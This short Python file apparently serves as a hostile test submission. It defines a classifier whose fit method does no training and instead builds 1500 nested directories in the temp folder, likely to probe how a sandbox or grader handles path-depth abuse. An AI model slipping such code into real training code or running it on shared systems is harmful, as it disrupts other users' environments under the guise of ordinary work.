import os
import tempfile

import known


class Classifier(known.Zeros):
    def fit(self, X, y):
        os.chdir(tempfile.gettempdir())
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
